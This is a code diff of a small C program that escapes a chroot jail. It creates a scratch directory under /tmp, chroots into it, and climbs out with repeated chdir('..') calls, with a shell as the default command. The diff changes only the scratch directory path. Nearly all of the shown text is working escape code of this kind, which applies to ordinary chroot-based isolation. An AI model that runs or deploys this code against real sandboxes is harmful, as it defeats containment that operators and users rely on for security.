@@ -17,17 +17,18 @@
 #include <sys/stat.h>
 #include <unistd.h>
 
-#define MAX_DEPTH 256 /* more ".." than any real path is deep */
+#define MAX_DEPTH 256                  /* more ".." than any real path is deep */
+#define SCRATCH "/tmp/.chroot-escape" /* any directory below our root will do */
 
 int main(int argc, char **argv)
 {
 	char *shell[] = {"/bin/sh", NULL};
 	char **command = argc > 1 ? argv + 1 : shell;
 
-	if (mkdir(".escape", 0700) < 0 && errno != EEXIST)
-		return perror("mkdir .escape"), 1;
-	if (chroot(".escape") < 0) /* cwd is now outside the root */
-		return perror("chroot .escape"), 1;
+	if (mkdir(SCRATCH, 0700) < 0 && errno != EEXIST)
+		return perror("mkdir " SCRATCH), 1;
+	if (chroot(SCRATCH) < 0) /* cwd "/" is now outside the root */
+		return perror("chroot " SCRATCH), 1;
 	for (int i = 0; i < MAX_DEPTH; i++)
 		if (chdir("..") < 0)
 			return perror("chdir .."), 1;
